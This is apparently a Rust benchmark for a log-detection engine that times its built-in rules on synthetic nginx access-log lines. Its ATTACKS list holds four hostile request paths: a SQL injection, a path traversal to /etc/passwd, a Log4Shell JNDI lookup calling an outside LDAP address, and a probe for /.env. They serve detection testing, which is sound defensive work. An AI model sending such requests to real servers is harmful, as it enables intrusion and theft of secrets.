//! What all built-in rules cost on access logs: events through `Front` per second of CPU (detection.md 9).
//!
//! `cargo run --release -p detect --example rule_cost [events]`. Ordinary requests in the mix of a small shop, and the
//! same with one attack in a hundred. Events borrow from their line, as the parser makes them.

#![expect(clippy::print_stdout, reason = "a measurement prints its result")]

use detect::{BUILTIN, Front, RuleSet};
use std::borrow::Cow;
use std::sync::Arc;
use vocab::{Class, Event, Timestamp};

const TARGETS: [&str; 16] = [
    "/",
    "/style.css?v=20261101",
    "/images/header/logo-large@2x.png",
    "/products/list?category=kimono&page=3&sort=price_asc",
    "/products/detail/84213",
    "/assets/app.4f3a91c0.js",
    "/search?q=%E5%8C%97%E6%B5%B7%E9%81%93+%E3%81%8A%E5%9C%9F%E7%94%A3",
    "/api/v1/cart/items/5512",
    "/news/2026/11/autumn-festival.html",
    "/favicon.ico",
    "/fonts/noto-sans-jp-v52-latin-regular.woff2",
    "/login",
    "/cart?utm_source=newsletter&utm_medium=email&utm_campaign=2026-11_sale",
    "/images/products/84213/main.webp",
    "/company/access.html",
    "/blog/how-to-select-a-union-suit-or-drop-shoulder-knit/",
];
const ATTACKS: [&str; 4] = [
    "/item?id=1%27+union+select+null,null--",
    "/download.php?file=..%252f..%252fetc%252fpasswd",
    "/?x=$%7Bjndi:ldap://203.0.113.9/a%7D",
    "/.env",
];
const AGENTS: [&str; 4] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:144.0) Gecko/20100101 Firefox/144.0",
];

struct Line {
    text: String,
    path: std::ops::Range<usize>,
    query: Option<std::ops::Range<usize>>,
    agent: std::ops::Range<usize>,
    referrer: Option<std::ops::Range<usize>>,
}

fn line(number: usize, target: &str) -> Line {
    let agent = AGENTS[number % AGENTS.len()];
    let referrer =
        if number.is_multiple_of(3) { "-" } else { "https://www.example.jp/products/list?category=kimono" };
    let head = "\"GET ";
    let text = format!("{head}{target} HTTP/1.1\" 200 {} \"{referrer}\" \"{agent}\"", 500 + number % 9000);
    let start = head.len();
    let end = start + target.len();
    let split = target.find('?').map(|at| start + at);
    let referrer_at = text.rfind(&format!("\"{referrer}\" \"")).unwrap_or(0) + 1;
    let agent_at = text.len() - 1 - agent.len();
    Line {
        path: start..split.unwrap_or(end),
        query: split.map(|at| at + 1..end),
        agent: agent_at..agent_at + agent.len(),
        referrer: (referrer != "-").then_some(referrer_at..referrer_at + referrer.len()),
        text,
    }
}

fn event<'a>(number: usize, line: &'a Line) -> Event<'a> {
    let part = |range: &std::ops::Range<usize>| line.text.get(range.clone()).map(Cow::Borrowed);
    Event {
        time: Some(Timestamp::from_seconds(1_793_000_000 + (number as i64) / 50)),
        class: Class::Http,
        product: "nginx",
        category: "webserver",
        sigma_services: &["access"],
        src_ip: Some(std::net::Ipv4Addr::from(0xC633_6400 + (number as u32) % 250).into()),
        dst_host: Some("web01".into()),
        http_method: Some("GET".into()),
        url_path: part(&line.path),
        url_query: line.query.as_ref().and_then(part),
        user_agent: part(&line.agent),
        referrer: line.referrer.as_ref().and_then(part),
        http_status: Some(200),
        bytes_out: Some(500),
        message: Some(Cow::Borrowed(&line.text)),
        count: 1,
        ..Event::default()
    }
}

/// CPU time of this process, nanoseconds.
fn cpu() -> u64 {
    let text = std::fs::read_to_string("/proc/self/schedstat").unwrap_or_default();
    text.split_whitespace().next().and_then(|number| number.parse().ok()).unwrap_or(0)
}

fn measure(name: &str, front: &mut Front, lines: &[Line], events: usize) {
    let mut signals = Vec::new();
    let (mut kept, mut matched) = (0, 0);
    let begin = cpu();
    for number in 0..events {
        front.observe(&event(number, &lines[number % lines.len()]), &mut signals);
        if signals.len() >= 4096 {
            kept += signals.len();
            matched += signals.iter().filter(|signal| !signal.matches.is_empty()).count();
            signals.clear();
        }
    }
    kept += signals.len();
    let seconds = (cpu() - begin) as f64 / 1e9;
    println!(
        "{name}: {events} events in {seconds:.3} s of CPU = {:.2} M/s, {kept} signals, {matched} with a match",
        events as f64 / seconds / 1e6
    );
}

/// Names the rules that the prefilter lets through most often, although nothing is wrong with the request.
fn evaluated(rules: &RuleSet, lines: &[Line]) {
    let mut engine = rules.stateless().clone();
    let mut counts = std::collections::BTreeMap::new();
    let mut found = Vec::new();
    for (number, line) in lines.iter().enumerate() {
        found.clear();
        engine.candidates(&event(number, line), &mut found);
        for index in &found {
            *counts.entry(*index).or_insert(0_usize) += 1;
        }
    }
    let mut counts: Vec<_> = counts.into_iter().collect();
    counts.sort_by_key(|(_, count)| std::cmp::Reverse(*count));
    for (index, count) in counts.into_iter().take(12) {
        let file = rules.get(index).map_or("", |rule| rule.file.as_str());
        println!(
            "  evaluated on {:.1} % of ordinary requests: {file}",
            count as f64 * 100.0 / lines.len() as f64
        );
    }
}

fn main() {
    let events = std::env::args().nth(1).and_then(|text| text.parse().ok()).unwrap_or(2_000_000);
    let begin = cpu();
    let (rules, report) = RuleSet::load(BUILTIN, &[]);
    println!(
        "{} rules loaded, {} refused, in {:.3} s of CPU",
        report.loaded,
        report.refused.len(),
        (cpu() - begin) as f64 / 1e9
    );
    let rules = Arc::new(rules);
    let mut front = Front::new(&rules);
    let ordinary: Vec<Line> = (0..4096).map(|at| line(at, TARGETS[at % TARGETS.len()])).collect();
    let begin = cpu();
    front.observe(&event(0, &ordinary[0]), &mut Vec::new());
    println!("first event in {:.3} s of CPU", (cpu() - begin) as f64 / 1e9);
    measure("ordinary", &mut front, &ordinary, events);
    evaluated(&rules, &ordinary);
    let mixed: Vec<Line> = (0..4096)
        .map(|at| {
            line(
                at,
                if at % 100 == 7 { ATTACKS[at / 100 % ATTACKS.len()] } else { TARGETS[at % TARGETS.len()] },
            )
        })
        .collect();
    measure("one attack in a hundred", &mut front, &mixed, events);
}
